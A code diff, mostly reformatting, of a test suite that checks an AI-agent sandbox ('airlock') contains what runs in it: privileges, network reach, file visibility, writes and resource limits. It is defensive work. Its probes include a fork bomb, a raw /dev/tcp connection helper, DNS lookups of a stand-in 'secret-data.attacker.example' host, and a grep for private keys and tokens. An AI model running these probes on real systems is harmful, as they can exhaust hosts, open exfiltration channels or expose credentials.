@@ -7,7 +7,7 @@ import { networkInterfaces, tmpdir, userInfo } from 'node:os';
 import { fileURLToPath } from 'node:url';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import type { TaskSandbox } from '../../src/core/ports.ts';
-import { newTaskId, smallSpec } from './contract.ts';
+import { newTaskId, smallSpec } from './contract-spec.ts';
 import { listen, localSubject, type LocalSubject } from './local-subject.ts';
 
 const limits = { timeoutMs: 20_000, maxOutputBytes: 100_000 };
@@ -38,21 +38,33 @@ afterAll(async () => {
 });
 
 async function inside(script: string, where = sandbox) {
-  const { stdout, stderr, exitCode, timedOut } = await where.exec({ argv: ['/bin/bash', '-c', script] }, limits);
+  const { stdout, stderr, exitCode, timedOut } = await where.exec(
+    { argv: ['/bin/bash', '-c', script] },
+    limits,
+  );
   return { out: (stdout + stderr).trim(), exitCode, timedOut };
 }
 
 /** Tries a TCP connection by Bash's own means, so that no proxy setting or resolver of a program is in the way. */
-const connect = (address: string, port: number) => `timeout 3 bash -c 'exec 3<>/dev/tcp/${address}/${port} && echo CONNECTED' 2>&1`;
+const connect = (address: string, port: number) =>
+  `timeout 3 bash -c 'exec 3<>/dev/tcp/${address}/${port} && echo CONNECTED' 2>&1`;
 
 describe('who it is', () => {
   it.each([
     ['an ordinary user', 'id -u; id -g; id -G', '1000\n1000\n1000'],
-    ['without a capability, also in the bounding set', 'grep -hE "^Cap(Eff|Prm|Bnd|Amb|Inh)" /proc/self/status | cut -f2 | sort -u', '0'.repeat(16)],
+    [
+      'without a capability, also in the bounding set',
+      'grep -hE "^Cap(Eff|Prm|Bnd|Amb|Inh)" /proc/self/status | cut -f2 | sort -u',
+      '0'.repeat(16),
+    ],
     ['that cannot gain any', 'grep NoNewPrivs /proc/self/status | cut -f2', '1'],
     ['with a name of its own', 'hostname', 'airlock'],
     ['that can make no user namespace', 'unshare -Ur true 2>/dev/null; echo $?', '1'],
-    ['that can make no other namespace', 'for n in -m -n -p -u -i; do unshare $n -f true 2>/dev/null && echo MADE; done; true', ''],
+    [
+      'that can make no other namespace',
+      'for n in -m -n -p -u -i; do unshare $n -f true 2>/dev/null && echo MADE; done; true',
+      '',
+    ],
     ['that can mount nothing', 'mount -t tmpfs none /tmp 2>/dev/null; echo $?', '32'],
     ['without a terminal', '(: < /dev/tty) 2>/dev/null; echo $?', '1'],
     ['with core dumps off', 'ulimit -c; ulimit -Hc', '0\n0'],
@@ -92,7 +104,11 @@ describe('what it can reach', () => {
 
   it.each([
     ['IPv4', 'getent ahosts secret-data.attacker.example | cut -d" " -f1 | sort -u', '127.0.0.1'],
-    ['IPv6', `node -e "require('dns').resolve6('attacker.example',(e,a)=>console.log(e?.code??a.join()))"`, 'ENODATA'],
+    [
+      'IPv6',
+      `node -e "require('dns').resolve6('attacker.example',(e,a)=>console.log(e?.code??a.join()))"`,
+      'ENODATA',
+    ],
     [
       'other records',
       `node -e "const d=require('dns').promises;Promise.allSettled(['TXT','MX','NS','SRV','ANY'].map(t=>d.resolve('attacker.example',t))).then(r=>console.log(r.map(x=>x.reason?.code??'ANSWER').join()))"`,
@@ -106,13 +122,22 @@ describe('what it can reach', () => {
     const datagram = `node -e "const s=require('dgram').createSocket('udp4');s.send('x',53,'8.8.8.8',e=>{console.log(e?e.code:'SENT');s.close()})"`;
     expect((await inside(datagram)).out).toBe('ENETUNREACH');
     const raw = 'import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)';
-    expect((await inside(`command -v /usr/bin/python3 >/dev/null || { echo PermissionError; exit; }; /usr/bin/python3 -c '${raw}'`)).out).toContain('PermissionError');
+    expect(
+      (
+        await inside(
+          `command -v /usr/bin/python3 >/dev/null || { echo PermissionError; exit; }; /usr/bin/python3 -c '${raw}'`,
+        )
+      ).out,
+    ).toContain('PermissionError');
   });
 
   it.each([
     ['curl', 'curl -sS https://api.example.com/a'],
     ['curl over plain HTTP', 'curl -sS http://api.example.com/a'],
-    ['Node', `node -e "fetch('https://api.example.com/a').then(r=>r.text()).then(t=>process.stdout.write(t))"`],
+    [
+      'Node',
+      `node -e "fetch('https://api.example.com/a').then(r=>r.text()).then(t=>process.stdout.write(t))"`,
+    ],
   ])('reaches the gateway, and trusts it: %s', async (name, script) => {
     const scheme = name.includes('plain') ? 'http' : 'https';
     expect((await inside(script)).out).toBe(`upstream says GET ${scheme}://api.example.com/a`);
@@ -120,24 +145,45 @@ describe('what it can reach', () => {
 
   it('reaches the gateway with git, and trusts it', async () => {
     expect(await inside('git ls-remote https://git.example.com/a/b')).toMatchObject({ exitCode: 0 });
-    expect(subject.seen.map(({ url }) => url)).toContain('https://git.example.com/a/b/info/refs?service=git-upload-pack');
+    expect(subject.seen.map(({ url }) => url)).toContain(
+      'https://git.example.com/a/b/info/refs?service=git-upload-pack',
+    );
   });
 
   it('trusts nobody but the gateway', async () => {
-    const bundles = '$SSL_CERT_FILE $CURL_CA_BUNDLE $GIT_SSL_CAINFO $NODE_EXTRA_CA_CERTS /etc/ssl/certs/ca-certificates.crt';
-    expect((await inside(`cat ${bundles} | grep -c BEGIN; ls /etc/ssl/certs; ls -d /usr/share/ca-certificates/nothing 2>/dev/null`)).out).toBe('5\nca-certificates.crt');
+    const bundles =
+      '$SSL_CERT_FILE $CURL_CA_BUNDLE $GIT_SSL_CAINFO $NODE_EXTRA_CA_CERTS /etc/ssl/certs/ca-certificates.crt';
+    expect(
+      (
+        await inside(
+          `cat ${bundles} | grep -c BEGIN; ls /etc/ssl/certs; ls -d /usr/share/ca-certificates/nothing 2>/dev/null`,
+        )
+      ).out,
+    ).toBe('5\nca-certificates.crt');
   });
 });
 
 describe('what it can see', () => {
   it.each([
-    ['only the folders that belong to it', 'ls /', 'bin dev etc home lib lib64 opt proc run sbin tmp usr workspace'],
+    [
+      'only the folders that belong to it',
+      'ls /',
+      'bin dev etc home lib lib64 opt proc run sbin tmp usr workspace',
+    ],
     ['no home but its own', 'ls /home /root 2>/dev/null', '/home: codex'],
     ['no socket', 'find / -xdev -type s -not -path "/proc/*" 2>/dev/null', ''],
-    ['no device but the harmless ones', 'find /dev -not -type d -exec stat -c "%F %n" {} + | grep special | grep -o "/dev.*" | sort', '/dev/full /dev/null /dev/pts/ptmx /dev/random /dev/tty /dev/urandom /dev/zero'],
+    [
+      'no device but the harmless ones',
+      'find /dev -not -type d -exec stat -c "%F %n" {} + | grep special | grep -o "/dev.*" | sort',
+      '/dev/full /dev/null /dev/pts/ptmx /dev/random /dev/tty /dev/urandom /dev/zero',
+    ],
     ['no kernel file system', 'ls -d /sys /sys/fs /boot 2>/dev/null', ''],
     ['its own processes only', 'ls /proc | grep -cE "^[0-9]+$" | xargs test 12 -gt && echo few', 'few'],
-    ['an empty place for outputs, closed to others', 'stat -c "%a %u" /workspace /tmp /home/codex /run/airlock', '700 1000\n700 1000\n700 1000\n700 1000'],
+    [
+      'an empty place for outputs, closed to others',
+      'stat -c "%a %u" /workspace /tmp /home/codex /run/airlock',
+      '700 1000\n700 1000\n700 1000\n700 1000',
+    ],
   ])('%s', async (_, script, expected) => {
     const shown = (await inside(script)).out.replaceAll('\n', expected.includes('\n') ? '\n' : ' ').trim();
     // Some systems have more links to /usr than others.
@@ -145,9 +191,19 @@ describe('what it can see', () => {
   });
 
   it('nothing of the checkout but the task scripts', async () => {
-    const names = (await inside(`ls -d ${checkout} ${checkout}/package.json ${tmpdir()}/airlock-sandboxes-* /airlock /opt/airlock/../../src 2>/dev/null`)).out;
+    const names = (
+      await inside(
+        `ls -d ${checkout} ${checkout}/package.json ${tmpdir()}/airlock-sandboxes-* /airlock /opt/airlock/../../src 2>/dev/null`,
+      )
+    ).out;
     expect(names).toBe('');
-    expect((await inside('ls /opt; ls /opt/node/node_modules 2>/dev/null; test -f /opt/airlock/sandbox-init.ts && echo scripts')).out).toBe('airlock\ncodex\nnode\nscripts');
+    expect(
+      (
+        await inside(
+          'ls /opt; ls /opt/node/node_modules 2>/dev/null; test -f /opt/airlock/sandbox-init.ts && echo scripts',
+        )
+      ).out,
+    ).toBe('airlock\ncodex\nnode\nscripts');
   });
 
   it('nothing of the host process: not its environment, its name or its user', async () => {
@@ -158,39 +214,73 @@ describe('what it can see', () => {
     expect(out).not.toContain('gateway-token');
     expect(out).not.toContain(checkout);
     const names = [...out.matchAll(/^([A-Z_a-z]+)=/gm)].map(([, name]) => name);
-    expect([...new Set(names)].filter((name) => name !== undefined && name in process.env && !['HOME', 'PATH', 'LANG', 'USER', 'PWD', 'TZ', '_', 'SHLVL', 'OLDPWD'].includes(name) && !/CERT|CA_|CAINFO|BUNDLE|GIT_/.test(name))).toEqual([]);
+    expect(
+      [...new Set(names)].filter(
+        (name) =>
+          name !== undefined &&
+          name in process.env &&
+          !['HOME', 'PATH', 'LANG', 'USER', 'PWD', 'TZ', '_', 'SHLVL', 'OLDPWD'].includes(name) &&
+          !/CERT|CA_|CAINFO|BUNDLE|GIT_/.test(name),
+      ),
+    ).toEqual([]);
     expect((await inside('cat /etc/passwd')).out).toBe('codex:x:1000:1000:Codex:/home/codex:/bin/sh');
     expect(userInfo().username === 'codex' || !out.includes(`USER=${userInfo().username}`)).toBe(true);
   });
 
   it("not the authority's private key, nor the token that the gateway shows to the Worker", async () => {
-    expect((await inside('grep -rlE "PRIVATE KEY|gateway-token" /etc /run /tmp /home /workspace /opt/airlock 2>/dev/null')).out).toBe('');
+    expect(
+      (
+        await inside(
+          'grep -rlE "PRIVATE KEY|gateway-token" /etc /run /tmp /home /workspace /opt/airlock 2>/dev/null',
+        )
+      ).out,
+    ).toBe('');
   });
 });
 
 describe('what it can change', () => {
-  it.each(['/', '/usr', '/usr/bin', '/etc', '/etc/airlock', '/etc/ssl/certs', '/opt', '/opt/airlock', '/opt/node/bin', '/opt/codex/bin', '/dev', '/run', '/home'])(
-    'nothing in %s',
-    async (folder) => {
-      expect((await inside(`touch ${folder}/new 2>/dev/null; echo $?`)).out).toBe('1');
-    },
-  );
+  it.each([
+    '/',
+    '/usr',
+    '/usr/bin',
+    '/etc',
+    '/etc/airlock',
+    '/etc/ssl/certs',
+    '/opt',
+    '/opt/airlock',
+    '/opt/node/bin',
+    '/opt/codex/bin',
+    '/dev',
+    '/run',
+    '/home',
+  ])('nothing in %s', async (folder) => {
+    expect((await inside(`touch ${folder}/new 2>/dev/null; echo $?`)).out).toBe('1');
+  });
 
-  it.each(['/proc/sys/kernel/hostname', '/proc/sysrq-trigger', '/proc/sys/vm/drop_caches', '/proc/1/mem', '/etc/resolv.conf', '/etc/hosts', '/etc/airlock/ca.pem'])(
-    'not %s',
-    async (file) => {
-      expect((await inside(`(echo x > ${file}) 2>/dev/null; echo $?`)).out).toBe('1');
-    },
-  );
+  it.each([
+    '/proc/sys/kernel/hostname',
+    '/proc/sysrq-trigger',
+    '/proc/sys/vm/drop_caches',
+    '/proc/1/mem',
+    '/etc/resolv.conf',
+    '/etc/hosts',
+    '/etc/airlock/ca.pem',
+  ])('not %s', async (file) => {
+    expect((await inside(`(echo x > ${file}) 2>/dev/null; echo $?`)).out).toBe('1');
+  });
 
   it.each(['/workspace', '/tmp', '/home/codex', '/run/airlock', '/dev/shm'])('its own %s', async (folder) => {
     expect((await inside(`echo x > ${folder}/mine && cat ${folder}/mine`)).out).toBe('x');
   });
 
   it.each(['/workspace', '/tmp'])('no more than the disk holds in %s', async (folder) => {
-    const { out } = await inside(`head -c ${smallSpec.diskBytes + MiB} /dev/zero > ${folder}/full; du -m ${folder} | tail -1 | cut -f1; rm ${folder}/full`);
+    const { out } = await inside(
+      `head -c ${smallSpec.diskBytes + MiB} /dev/zero > ${folder}/full; du -m ${folder} | tail -1 | cut -f1; rm ${folder}/full`,
+    );
     expect(out).toMatch(/No space left on device|File size limit|File too large/);
-    expect(Number(out.split('\n').at(-2) ?? out.split('\n').at(-1))).not.toBeGreaterThan(smallSpec.diskBytes / MiB);
+    expect(Number(out.split('\n').at(-2) ?? out.split('\n').at(-1))).not.toBeGreaterThan(
+      smallSpec.diskBytes / MiB,
+    );
   });
 });
 
@@ -203,7 +293,10 @@ describe('what it can use up', () => {
 
   it('a fork bomb ends at its own limit, and the sandbox can still be destroyed', async () => {
     const victim = await another({ ...smallSpec, maxProcesses: 64 });
-    const bomb = victim.exec({ argv: ['/bin/bash', '-c', 'bomb() { bomb | bomb & }; bomb; sleep 60'] }, { ...limits, timeoutMs: 1_500 });
+    const bomb = victim.exec(
+      { argv: ['/bin/bash', '-c', 'bomb() { bomb | bomb & }; bomb; sleep 60'] },
+      { ...limits, timeoutMs: 1_500 },
+    );
     await bomb.catch(() => undefined);
     const table = readFileSync('/proc/loadavg', 'utf8').split(' ')[3]?.split('/')[1];
     expect(Number(table)).toBeLessThan(5_000);
@@ -214,7 +307,9 @@ describe('what it can use up', () => {
   it('a process that takes all memory is stopped, and the sandbox beside it is not', async () => {
     const victim = await another({ ...smallSpec, memoryBytes: 256 * MiB });
     const script = 'const kept = []; setInterval(() => kept.push(Buffer.alloc(32 * 1024 * 1024, 1)), 5)';
-    const outcome = await victim.exec({ argv: ['node', '-e', script] }, limits).catch((error: unknown) => error);
+    const outcome = await victim
+      .exec({ argv: ['node', '-e', script] }, limits)
+      .catch((error: unknown) => error);
     if (outcome instanceof Error) expect(outcome.name).toBe('SandboxLostError');
     else expect(outcome).toMatchObject({ exitCode: 137 });
     expect((await inside('echo unharmed')).out).toBe('unharmed');
@@ -224,11 +319,24 @@ describe('what it can use up', () => {
   it('two sandboxes see nothing of each other', async () => {
     const other = await another();
     await inside('echo secret > /tmp/shared; echo secret > /dev/shm/shared; (sleep 73 &) ; true');
-    expect((await inside('cat /tmp/shared /dev/shm/shared 2>/dev/null; pgrep -fx "sleep 73"; ipcs -m | grep -c 0x', other)).out).toBe('0');
+    expect(
+      (
+        await inside(
+          'cat /tmp/shared /dev/shm/shared 2>/dev/null; pgrep -fx "sleep 73"; ipcs -m | grep -c 0x',
+          other,
+        )
+      ).out,
+    ).toBe('0');
     expect((await inside(`curl -sS https://other.example/`, other)).out).toContain('upstream');
-    const [first, second] = [subject.seen.findLast(({ url }) => url.includes('api.example')), subject.seen.at(-1)];
+    const [first, second] = [
+      subject.seen.findLast(({ url }) => url.includes('api.example')),
+      subject.seen.at(-1),
+    ];
     expect(first?.headers['x-airlock-sandbox']).not.toBe(second?.headers['x-airlock-sandbox']);
-    const [mine, theirs] = [(await inside('cat /etc/airlock/ca.pem')).out, (await inside('cat /etc/airlock/ca.pem', other)).out];
+    const [mine, theirs] = [
+      (await inside('cat /etc/airlock/ca.pem')).out,
+      (await inside('cat /etc/airlock/ca.pem', other)).out,
+    ];
     expect(mine).not.toBe(theirs);
     await other.destroy();
   });
